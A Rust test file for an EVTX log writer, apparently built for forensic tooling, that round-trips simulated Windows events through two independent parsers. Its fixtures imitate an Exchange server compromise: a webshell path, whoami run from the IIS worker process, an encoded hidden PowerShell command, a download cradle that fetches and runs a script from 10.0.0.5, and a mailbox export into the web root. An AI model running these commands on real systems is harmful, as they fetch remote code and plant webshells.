//! The EVTX writer, read back by the `evtx` crate with checksum validation on.

use evtx::{EvtxParser, ParserSettings};
use exsweep_fixtures::evtx::{EventData, EventSpec, EvtxWriter, write_file};
use serde_json::Value;
use std::io::{self, Cursor};
use std::path::Path;

const CHUNK: usize = 65_536;
const HEADER: usize = 4096;

fn settings() -> ParserSettings {
    ParserSettings::new().validate_checksums(true).num_threads(1)
}

/// Every record of `bytes` as (record id, header time in ms, JSON); panics on any error.
fn read_json(bytes: Vec<u8>) -> Vec<(u64, i64, Value)> {
    let mut parser = EvtxParser::from_buffer(bytes).unwrap().with_configuration(settings());
    assert!(parser.header().validate_checksum(), "file header CRC32");
    parser
        .records_json_value()
        .map(|r| {
            let r = r.expect("record reads");
            (r.event_record_id, r.timestamp.as_millisecond(), r.data["Event"].clone())
        })
        .collect()
}

fn read_xml(bytes: Vec<u8>) -> Vec<String> {
    let mut parser = EvtxParser::from_buffer(bytes).unwrap().with_configuration(settings());
    parser.records().map(|r| r.unwrap().data).collect()
}

fn write_all(events: &[EventSpec]) -> Vec<u8> {
    let mut writer = EvtxWriter::new(Cursor::new(Vec::new())).unwrap();
    for (i, event) in events.iter().enumerate() {
        assert_eq!(writer.write(event).unwrap(), i as u64 + 1);
    }
    writer.finish().unwrap().into_inner()
}

/// `time_ms` as the evtx crate renders a FILETIME: `2023-11-14T22:13:20.1230000Z`.
fn iso(time_ms: i64) -> String {
    let days = time_ms.div_euclid(86_400_000);
    let ms = time_ms.rem_euclid(86_400_000);
    // Civil date from days since 1970-01-01 (H. Hinnant's algorithm).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!(
        "{year:04}-{month:02}-{day:02}T{:02}:{:02}:{:02}.{:03}0000Z",
        ms / 3_600_000,
        ms / 60_000 % 60,
        ms / 1000 % 60,
        ms % 1000
    )
}

/// An element's text: the value itself, or `#text` beside `#attributes`.
fn text(v: &Value) -> &Value {
    v.get("#text").unwrap_or(v)
}

fn attr<'a>(v: &'a Value, name: &str) -> Option<&'a Value> {
    v.get("#attributes").and_then(|a| a.get(name))
}

/// Asserts that the rendered `event` carries every field of `spec`, and nothing it lacks.
fn assert_event(spec: &EventSpec, record_id: u64, event: &Value) {
    let sys = &event["System"];
    let ctx = format!("record {record_id}: {event}");
    assert_eq!(
        attr(event, "xmlns").and_then(Value::as_str),
        Some("http://schemas.microsoft.com/win/2004/08/events/event"),
        "{ctx}"
    );
    assert_eq!(attr(&sys["Provider"], "Name").unwrap(), &spec.provider, "{ctx}");
    let guid = attr(&sys["Provider"], "Guid").map(|g| g.as_str().unwrap().to_ascii_uppercase());
    let expected_guid = spec.provider_guid.as_ref().map(|g| {
        let g = g.to_ascii_uppercase();
        if g.starts_with('{') { g } else { format!("{{{g}}}") }
    });
    assert_eq!(guid, expected_guid, "{ctx}");
    assert_eq!(
        attr(&sys["Provider"], "EventSourceName").and_then(Value::as_str),
        spec.event_source_name.as_deref(),
        "{ctx}"
    );
    assert_eq!(text(&sys["EventID"]), spec.event_id, "{ctx}");
    assert_eq!(attr(&sys["EventID"], "Qualifiers").and_then(Value::as_u64), spec.qualifiers.map(u64::from), "{ctx}");
    assert_eq!(sys["Version"], spec.version, "{ctx}");
    assert_eq!(sys["Level"], spec.level, "{ctx}");
    assert_eq!(sys["Task"], spec.task, "{ctx}");
    assert_eq!(sys["Opcode"], spec.opcode, "{ctx}");
    assert_eq!(sys["Keywords"], format!("0x{:x}", spec.keywords), "{ctx}");
    assert_eq!(attr(&sys["TimeCreated"], "SystemTime").unwrap(), &iso(spec.time_ms), "{ctx}");
    assert_eq!(sys["EventRecordID"], record_id, "{ctx}");
    assert_eq!(sys["Correlation"], Value::Null, "{ctx}");
    assert_eq!(attr(&sys["Execution"], "ProcessID").unwrap(), spec.process_id, "{ctx}");
    assert_eq!(attr(&sys["Execution"], "ThreadID").unwrap(), spec.thread_id, "{ctx}");
    assert_eq!(sys["Channel"], spec.channel.as_str(), "{ctx}");
    assert_eq!(sys["Computer"], spec.computer.as_str(), "{ctx}");
    assert_eq!(attr(&sys["Security"], "UserID").and_then(Value::as_str), spec.user_sid.as_deref(), "{ctx}");
    assert_eq!(data_values(event), expected_data(&spec.data), "{ctx}");
}

/// EventData as (name, value) pairs; names are `None` for unnamed Data.
fn data_values(event: &Value) -> Vec<(Option<String>, String)> {
    let data = &event["EventData"];
    let as_string = |v: &Value| match v {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    match data {
        Value::Null => Vec::new(),
        Value::Object(map) if map.contains_key("Data") => match text(&map["Data"]) {
            Value::Array(items) => items.iter().map(|v| (None, as_string(v))).collect(),
            single => vec![(None, as_string(single))],
        },
        Value::Object(map) => map.iter().map(|(k, v)| (Some(k.clone()), as_string(v))).collect(),
        other => panic!("unexpected EventData {other}"),
    }
}

fn expected_data(data: &EventData) -> Vec<(Option<String>, String)> {
    match data {
        EventData::Named(pairs) => pairs.iter().map(|(k, v)| (Some(k.clone()), v.clone())).collect(),
        EventData::Unnamed(values) => values.iter().map(|v| (None, v.clone())).collect(),
    }
}

fn named(pairs: &[(&str, &str)]) -> EventData {
    EventData::Named(pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect())
}

fn unnamed(values: &[&str]) -> EventData {
    EventData::Unnamed(values.iter().map(|v| v.to_string()).collect())
}

fn um_application(i: u32) -> EventSpec {
    EventSpec {
        provider: "MSExchange Unified Messaging".into(),
        event_id: 1040,
        qualifiers: Some(49152),
        level: 2,
        task: 1,
        keywords: 0x80_0000_0000_0000,
        time_ms: 1_614_556_800_123 + i64::from(i),
        process_id: 5012,
        channel: "Application".into(),
        computer: "EX01.contoso.local".into(),
        data: unnamed(&[
            &format!("{i}"),
            "System.IO.IOException: The process cannot access the file 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx'",
            "UMWorkerProcess",
        ]),
        ..Default::default()
    }
}

fn security_4688(i: u32) -> EventSpec {
    EventSpec {
        provider: "Microsoft-Windows-Security-Auditing".into(),
        provider_guid: Some("{54849625-5478-4994-A5BA-3E3B0328C30D}".into()),
        event_id: 4688,
        version: 2,
        level: 0,
        task: 13312,
        keywords: 0x8020_0000_0000_0000,
        time_ms: 1_614_556_801_000 + i64::from(i),
        process_id: 4,
        thread_id: 7420 + i,
        channel: "Security".into(),
        computer: "EX01.contoso.local".into(),
        user_sid: Some("S-1-5-18".into()),
        data: named(&[
            ("SubjectUserSid", "S-1-5-18"),
            ("SubjectUserName", "EX01$"),
            ("SubjectDomainName", "CONTOSO"),
            ("SubjectLogonId", "0x3e7"),
            ("NewProcessId", "0x1f40"),
            ("NewProcessName", "C:\\Windows\\System32\\cmd.exe"),
            ("TokenElevationType", "%%1936"),
            ("ProcessId", "0x1a2c"),
            ("CommandLine", &format!("cmd /c whoami > C:\\temp\\{i}.txt")),
            ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", "-"),
            ("TargetDomainName", "-"),
            ("TargetLogonId", "0x0"),
            ("ParentProcessName", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
            ("MandatoryLabel", "S-1-16-16384"),
        ]),
        ..Default::default()
    }
}

fn sysmon_1(i: u32) -> EventSpec {
    EventSpec {
        provider: "Microsoft-Windows-Sysmon".into(),
        provider_guid: Some("{5770385F-C22A-43E0-BF4C-06F5698FFBD9}".into()),
        event_id: 1,
        version: 5,
        level: 4,
        task: 1,
        keywords: 0x8000_0000_0000_0000,
        time_ms: 1_614_556_802_000 + i64::from(i),
        process_id: 2216,
        thread_id: 3340,
        channel: "Microsoft-Windows-Sysmon/Operational".into(),
        computer: "EX01.contoso.local".into(),
        user_sid: Some("S-1-5-18".into()),
        data: named(&[
            ("RuleName", "-"),
            ("UtcTime", "2021-03-01 00:00:02.000"),
            ("ProcessGuid", "{3f2504e0-4f89-11d3-9a0c-0305e82c3301}"),
            ("ProcessId", &format!("{}", 6000 + i)),
            ("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            ("FileVersion", "10.0.17763.1 (WinBuild.160101.0800)"),
            ("Description", "Windows PowerShell"),
            ("Product", "Microsoft® Windows® Operating System"),
            ("Company", "Microsoft Corporation"),
            ("OriginalFileName", "PowerShell.EXE"),
            ("CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgA"),
            ("CurrentDirectory", "C:\\Windows\\system32\\"),
            ("User", "NT AUTHORITY\\SYSTEM"),
            ("LogonGuid", "{3f2504e0-4f89-11d3-9a0c-0305e82c3301}"),
            ("LogonId", "0x3e7"),
            ("TerminalSessionId", "0"),
            ("IntegrityLevel", "System"),
            ("Hashes", "SHA256=9F914D42706FE215501044ACD85A32D58AAEF1419D404FDDFA5D3B48F66CCD9F"),
            ("ParentProcessGuid", "{3f2504e0-4f89-11d3-9a0c-0305e82c3302}"),
            ("ParentProcessId", "4242"),
            ("ParentImage", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
            ("ParentCommandLine", "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\""),
            ("ParentUser", "NT AUTHORITY\\SYSTEM"),
        ]),
        ..Default::default()
    }
}

/// A script block of `len` characters, lines ending in CRLF, with a few non-ASCII characters.
fn script_block(len: usize) -> String {
    let line = "$c = New-Object System.Net.WebClient; $c.DownloadString('http://10.0.0.5/a.ps1') | iex # é\r\n";
    line.chars().cycle().take(len).collect()
}

fn powershell_4104(script: &str) -> EventSpec {
    EventSpec {
        provider: "Microsoft-Windows-PowerShell".into(),
        provider_guid: Some("{A0C1853B-5C40-4B15-8766-3CF1C58F985A}".into()),
        event_id: 4104,
        version: 1,
        level: 5,
        task: 2,
        opcode: 15,
        keywords: 0x0,
        time_ms: 1_614_556_803_000,
        process_id: 7777,
        thread_id: 8888,
        channel: "Microsoft-Windows-PowerShell/Operational".into(),
        computer: "EX01.contoso.local".into(),
        user_sid: Some("S-1-5-21-1004336348-1177238915-682003330-500".into()),
        data: named(&[
            ("MessageNumber", "1"),
            ("MessageTotal", "1"),
            ("ScriptBlockText", script),
            ("ScriptBlockId", "9a3e2c4b-1f2d-4e5f-8a9b-0c1d2e3f4a5b"),
            ("Path", ""),
        ]),
        ..Default::default()
    }
}

fn cmdlet_log(i: u32) -> EventSpec {
    EventSpec {
        provider: "MSExchange CmdletLogs".into(),
        event_id: 1,
        qualifiers: Some(0),
        level: 4,
        task: 1,
        keywords: 0x80_0000_0000_0000,
        time_ms: 1_614_556_804_000 + i64::from(i),
        process_id: 13588,
        channel: "MSExchange Management".into(),
        computer: "EX01.contoso.local".into(),
        data: unnamed(&[
            "New-MailboxExportRequest",
            &format!("-Mailbox \"user{i}\" -FilePath \"\\\\EX01\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx\""),
            "contoso.local/Users/Administrator",
            "S-1-5-21-1004336348-1177238915-682003330-500",
            "S-1-5-21-1004336348-1177238915-682003330-500",
            "Remote-PowerShell-Unknown",
            "13588 w3wp#MSExchangePowerShellAppPool",
            "",
            "00:00:00.0781250",
        ]),
        ..Default::default()
    }
}

fn round_trip(events: &[EventSpec]) {
    let records = read_json(write_all(events));
    assert_eq!(records.len(), events.len());
    for ((id, time_ms, json), (i, spec)) in records.iter().zip(events.iter().enumerate()) {
        assert_eq!(*id, i as u64 + 1);
        assert_eq!(*time_ms, spec.time_ms, "record header time");
        assert_event(spec, *id, json);
    }
}

#[test]
fn application_msexchange_unnamed_with_qualifiers_round_trips() {
    round_trip(&[um_application(0), um_application(1)]);
}

#[test]
fn security_4688_named_round_trips() {
    round_trip(&[security_4688(0), security_4688(1), security_4688(2)]);
}

#[test]
fn sysmon_1_named_round_trips() {
    round_trip(&[sysmon_1(0), sysmon_1(1)]);
}

#[test]
fn powershell_4104_with_30kb_script_block_round_trips() {
    let script = script_block(30_000);
    let events = [powershell_4104(&script), powershell_4104("Get-Process")];
    round_trip(&events);
    let xml = read_xml(write_all(&events));
    assert!(xml[0].contains("<Data Name=\"ScriptBlockText\">$c = New-Object"));
}

#[test]
fn msexchange_management_cmdlet_event_round_trips() {
    round_trip(&[cmdlet_log(0), cmdlet_log(1)]);
}

#[test]
fn classic_provider_with_event_source_name_round_trips() {
    let event = EventSpec {
        provider: "Microsoft-Windows-Security-SPP".into(),
        provider_guid: Some("e23b33b0-c8c9-472c-a5f9-f2bdfea0f156".into()),
        event_source_name: Some("Software Protection Platform Service".into()),
        event_id: 16384,
        qualifiers: Some(16384),
        level: 4,
        keywords: 0x80_0000_0000_0000,
        time_ms: 0,
        channel: "Application".into(),
        computer: "EX01".into(),
        data: unnamed(&["2121-02-05T10:00:00Z", "RulesEngine"]),
        ..Default::default()
    };
    round_trip(&[event]);
}

#[test]
fn optional_system_values_are_left_out_when_absent() {
    let event = EventSpec {
        provider: "MSExchangeTransport".into(),
        provider_guid: None,
        event_source_name: Some(String::new()),
        qualifiers: None,
        user_sid: Some(String::new()),
        channel: "Application".into(),
        ..um_application(0)
    };
    let records = read_json(write_all(std::slice::from_ref(&event)));
    let sys = &records[0].2["System"];
    assert_eq!(sys["Provider"], serde_json::json!({"#attributes": {"Name": "MSExchangeTransport"}}));
    assert_eq!(sys["EventID"], 1040);
    assert_eq!(sys["Security"], Value::Null);
    let xml = &read_xml(write_all(&[event]))[0];
    assert!(xml.contains("<Provider Name=\"MSExchangeTransport\"/>"), "{xml}");
    assert!(xml.contains("<EventID>1040</EventID>"), "{xml}");
    assert!(xml.contains("<Security/>"), "{xml}");
}

#[test]
fn unicode_and_xml_special_characters_round_trip() {
    let tricky = [
        "<script>alert('x') & \"y\"</script>",
        "Ünïcödé – “quotes” ‘single’ «guillemets»",
        "emoji 😀🔥 and astral 𝄞, CJK 中文, RTL עברית",
        "tabs\tand\nnew lines\r\nand ]]> and &amp; literally",
        "",
        " leading and trailing spaces ",
    ];
    let mut events = Vec::new();
    events.push(EventSpec {
        provider: "Provider <&> \"Ünï\"".into(),
        channel: "Channel/Opérationnel".into(),
        computer: "Ordinateur-é😀".into(),
        data: named(
            &tricky
                .iter()
                .enumerate()
                .map(|(i, v)| {
                    let name: &'static str = ["A", "B", "C", "D", "E", "F"][i];
                    (name, *v)
                })
                .collect::<Vec<_>>(),
        ),
        ..um_application(0)
    });
    events.push(EventSpec { data: unnamed(&tricky), ..um_application(1) });
    round_trip(&events);

    let xml = read_xml(write_all(&events));
    assert!(
        xml[0]
            .contains("<Data Name=\"A\">&lt;script&gt;alert(&apos;x&apos;) &amp; &quot;y&quot;&lt;/script&gt;</Data>")
            || xml[0].contains("<Data Name=\"A\">&lt;script&gt;alert('x') &amp; \"y\"&lt;/script&gt;</Data>"),
        "{}",
        xml[0]
    );
    assert!(xml[1].contains("<Data>emoji 😀🔥 and astral 𝄞, CJK 中文, RTL עברית</Data>"));
    assert!(xml[0].contains("<Computer>Ordinateur-é😀</Computer>"));
}

#[test]
fn empty_strings_and_empty_event_data_do_not_break_anything() {
    let events = [
        EventSpec::default(),
        EventSpec { data: EventData::Named(Vec::new()), ..EventSpec::default() },
        EventSpec { data: named(&[("", ""), ("X", "")]), ..EventSpec::default() },
        EventSpec { data: unnamed(&["", "", ""]), ..EventSpec::default() },
    ];
    let records = read_json(write_all(&events));
    assert_eq!(records.len(), 4);
    for (id, _, json) in &records[..2] {
        assert_eq!(json["System"]["EventRecordID"], *id);
        assert_eq!(json["EventData"], Value::Null);
    }
    assert_eq!(data_values(&records[3].2), vec![(None, String::new()); 3]);
    assert_eq!(records[0].2["System"]["TimeCreated"]["#attributes"]["SystemTime"], "1970-01-01T00:00:00.0000000Z");
}

#[test]
fn many_chunks_keep_ids_counts_and_templates() {
    const N: u32 = 20_000;
    let events: Vec<EventSpec> = (0..N)
        .map(|i| match i % 4 {
            0 => um_application(i),
            1 => security_4688(i),
            2 => sysmon_1(i),
            _ => cmdlet_log(i),
        })
        .collect();
    let mut writer = EvtxWriter::new(Cursor::new(Vec::new())).unwrap();
    let mut chunk_counts = Vec::new();
    for (i, event) in events.iter().enumerate() {
        assert_eq!(writer.write(event).unwrap(), i as u64 + 1);
        chunk_counts.push(writer.chunk_count());
    }
    let chunks = writer.chunk_count();
    assert_eq!(writer.bytes_written(), (HEADER + chunks * CHUNK) as u64);
    let bytes = writer.finish().unwrap().into_inner();
    assert!(chunks > 50, "{chunks} chunks");
    assert_eq!(bytes.len(), HEADER + chunks * CHUNK);
    assert!(chunk_counts.windows(2).all(|w| w[1] == w[0] || w[1] == w[0] + 1));

    // The file header counts the chunks and names the next record id.
    assert_eq!(u16::from_le_bytes([bytes[42], bytes[43]]) as usize, chunks);
    assert_eq!(u64::from_le_bytes(bytes[16..24].try_into().unwrap()), chunks as u64 - 1);
    assert_eq!(u64::from_le_bytes(bytes[24..32].try_into().unwrap()), u64::from(N) + 1);

    // Each chunk defines each of the four shapes once, and its ids follow the previous chunk's.
    let mut next = 1;
    for c in 0..chunks {
        let chunk = &bytes[HEADER + c * CHUNK..HEADER + (c + 1) * CHUNK];
        let first = u64::from_le_bytes(chunk[24..32].try_into().unwrap());
        let last = u64::from_le_bytes(chunk[32..40].try_into().unwrap());
        assert_eq!(first, next);
        assert!(last >= first);
        next = last + 1;
        let mut templates = 0;
        for bucket in 0..32 {
            let at = 384 + bucket * 4;
            let mut offset = u32::from_le_bytes(chunk[at..at + 4].try_into().unwrap()) as usize;
            while offset != 0 {
                templates += 1;
                offset = u32::from_le_bytes(chunk[offset..offset + 4].try_into().unwrap()) as usize;
            }
        }
        assert_eq!(templates, 4.min(last - first + 1), "chunk {c}");
    }
    assert_eq!(next, u64::from(N) + 1);

    let records = read_json(bytes);
    assert_eq!(records.len(), N as usize);
    for ((id, _, json), (i, spec)) in records.iter().zip(events.iter().enumerate()) {
        assert_eq!(*id, i as u64 + 1);
        assert_event(spec, *id, json);
    }
}

#[test]
fn too_large_event_errors_cleanly_and_the_writer_goes_on() {
    let mut writer = EvtxWriter::new(Cursor::new(Vec::new())).unwrap();
    assert_eq!(writer.write(&um_application(0)).unwrap(), 1);
    for len in [32_000, 40_000, 100_000, 1_000_000] {
        let err = writer.write(&powershell_4104(&script_block(len))).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::InvalidInput, "{len}: {err}");
        assert!(err.to_string().contains("64 KiB chunk"), "{err}");
    }
    // Many fields, each small, too large together.
    let many = EventData::Unnamed(vec!["x".repeat(20); 3000]);
    let err = writer.write(&EventSpec { data: many, ..um_application(1) }).unwrap_err();
    assert_eq!(err.kind(), io::ErrorKind::InvalidInput);
    // Nothing was written for them: the next id follows on.
    assert_eq!(writer.write(&um_application(2)).unwrap(), 2);
    assert_eq!(writer.chunk_count(), 1);
    let records = read_json(writer.finish().unwrap().into_inner());
    assert_eq!(records.len(), 2);
    assert_eq!(records[1].0, 2);
}

#[test]
fn an_event_that_only_fits_an_empty_chunk_starts_a_new_one() {
    // Just under the data area of a chunk once its template is counted.
    let script = script_block(31_500);
    let events = [um_application(0), powershell_4104(&script), um_application(1)];
    let mut writer = EvtxWriter::new(Cursor::new(Vec::new())).unwrap();
    writer.write(&events[0]).unwrap();
    assert_eq!(writer.chunk_count(), 1);
    writer.write(&events[1]).unwrap();
    assert_eq!(writer.chunk_count(), 2);
    writer.write(&events[2]).unwrap();
    assert_eq!(writer.chunk_count(), 3);
    let bytes = writer.finish().unwrap().into_inner();
    let records = read_json(bytes);
    assert_eq!(records.len(), 3);
    for ((id, _, json), spec) in records.iter().zip(&events) {
        assert_event(spec, *id, json);
    }
}

#[test]
fn malformed_values_are_invalid_input() {
    let bad = [
        EventSpec { provider_guid: Some("not-a-guid".into()), ..EventSpec::default() },
        EventSpec { user_sid: Some("S-1-five".into()), ..EventSpec::default() },
        EventSpec { time_ms: i64::MAX, ..EventSpec::default() },
        EventSpec { time_ms: i64::MIN, ..EventSpec::default() },
    ];
    let mut writer = EvtxWriter::new(Cursor::new(Vec::new())).unwrap();
    for event in &bad {
        let err = writer.write(event).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::InvalidInput, "{err}");
    }
    assert_eq!(writer.write(&EventSpec::default()).unwrap(), 1);
    assert_eq!(read_json(writer.finish().unwrap().into_inner()).len(), 1);
}

#[test]
fn truncated_file_still_yields_the_first_two_chunks() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("Security.evtx");
    let events: Vec<EventSpec> = (0..1500).map(security_4688).collect();
    assert_eq!(write_file(&path, events.clone()).unwrap(), 1500);
    let bytes = std::fs::read(&path).unwrap();
    let chunks = (bytes.len() - HEADER) / CHUNK;
    assert!(chunks >= 3, "{chunks} chunks");
    let second = &bytes[HEADER + CHUNK..HEADER + 2 * CHUNK];
    let last_of_second = u64::from_le_bytes(second[32..40].try_into().unwrap());

    // Cut in the middle of the third chunk.
    let cut = HEADER + 2 * CHUNK + CHUNK / 2;
    std::fs::write(&path, &bytes[..cut]).unwrap();
    let mut parser = EvtxParser::from_path(&path).unwrap().with_configuration(settings());
    let ids: Vec<u64> =
        parser.records_json_value().map(|r| r.expect("records of whole chunks read").event_record_id).collect();
    assert_eq!(ids, (1..=last_of_second).collect::<Vec<_>>());
}

#[test]
fn write_file_counts_records() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("MSExchange Management.evtx");
    let n = write_file(&path, (0..10).map(cmdlet_log)).unwrap();
    assert_eq!(n, 10);
    let records = read_json(std::fs::read(&path).unwrap());
    assert_eq!(records.len(), 10);
    let empty = dir.path().join("empty.evtx");
    assert_eq!(write_file(&empty, Vec::new()).unwrap(), 0);
    assert_eq!(std::fs::metadata(&empty).unwrap().len(), HEADER as u64);
    assert!(read_json(std::fs::read(Path::new(&empty)).unwrap()).is_empty());
}

#[test]
fn the_largest_event_that_fits_is_written_and_one_char_more_is_refused() {
    let fits = |len: usize| {
        EvtxWriter::new(Cursor::new(Vec::new())).unwrap().write(&powershell_4104(&script_block(len))).is_ok()
    };
    let (mut lo, mut hi) = (1_000, 40_000);
    assert!(fits(lo) && !fits(hi));
    while hi - lo > 1 {
        let mid = (lo + hi) / 2;
        if fits(mid) { lo = mid } else { hi = mid }
    }
    // The chunk's 65,024 bytes for records, less the record's other values and its template.
    assert!((31_000..32_512).contains(&lo), "{lo}");

    for (len, ok) in [(lo, true), (lo + 1, false)] {
        let mut writer = EvtxWriter::new(Cursor::new(Vec::new())).unwrap();
        writer.write(&um_application(0)).unwrap();
        let big = powershell_4104(&script_block(len));
        let result = writer.write(&big);
        assert_eq!(result.is_ok(), ok, "{len}");
        // The first chunk is closed only for an event that then fits.
        assert_eq!(writer.chunk_count(), if ok { 2 } else { 1 });
        writer.write(&um_application(1)).unwrap();
        let records = read_json(writer.finish().unwrap().into_inner());
        assert_eq!(records.len(), if ok { 3 } else { 2 });
        if ok {
            assert_event(&big, 2, &records[1].2);
            let bytes = write_all(std::slice::from_ref(&big));
            // It fills its chunk to the last byte or two (characters are two bytes).
            let free = u32::from_le_bytes(bytes[HEADER + 48..HEADER + 52].try_into().unwrap());
            assert!(free as usize >= CHUNK - 1, "{free}");
        }
    }
}

/// The records `scripts/check_evtx.py` expects, as its EXPECTED.json.
fn expected_json(events: &[EventSpec]) -> Value {
    events
        .iter()
        .enumerate()
        .map(|(i, e)| {
            serde_json::json!({
                "record_id": i + 1,
                "event_id": e.event_id,
                "provider": e.provider,
                "channel": e.channel,
                "computer": e.computer,
                "level": e.level,
                "time_ms": e.time_ms,
                "data": e.data.values().collect::<Vec<_>>(),
            })
        })
        .collect()
}

/// python-evtx, an independent reader, reads the same records. Runs only with
/// `EXSWEEP_PYTHON_EVTX=1` (and `pip install python-evtx`), as CI does.
#[test]
fn python_evtx_reads_the_same_records() {
    if std::env::var("EXSWEEP_PYTHON_EVTX").as_deref() != Ok("1") {
        eprintln!("skipped: set EXSWEEP_PYTHON_EVTX=1 (with python-evtx installed) to run");
        return;
    }
    let script_text = script_block(30_000);
    // python-evtx is slow: enough records for a dozen chunks, not more.
    let mut events: Vec<EventSpec> = (0..1200)
        .map(|i| match i % 5 {
            0 => um_application(i),
            1 => security_4688(i),
            2 => sysmon_1(i),
            3 => cmdlet_log(i),
            _ if i % 400 == 4 => powershell_4104(&script_text),
            _ => powershell_4104(&format!("Write-Host \"{i} < > & ' é 😀\"")),
        })
        .collect();
    events.push(EventSpec {
        provider: "Provider <&> Ünï".into(),
        data: unnamed(&["a<b & \"c\" 'd'", "", "emoji 😀🔥 𝄞 中文 עברית", "line\r\nbreak\ttab"]),
        ..um_application(9)
    });

    let dir = tempfile::tempdir().unwrap();
    let evtx_path = dir.path().join("sample.evtx");
    let expected_path = dir.path().join("expected.json");
    write_file(&evtx_path, events.clone()).unwrap();
    let chunks = (std::fs::metadata(&evtx_path).unwrap().len() as usize - HEADER) / CHUNK;
    assert!(chunks > 10, "{chunks} chunks");
    std::fs::write(&expected_path, serde_json::to_vec(&expected_json(&events)).unwrap()).unwrap();

    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/check_evtx.py");
    let output = std::process::Command::new("python3")
        .arg(&script)
        .arg(&evtx_path)
        .arg(&expected_path)
        .output()
        .expect("python3 runs");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stdout}\n{stderr}");
    assert_eq!(stdout.trim(), format!("OK {} records", events.len()));
}
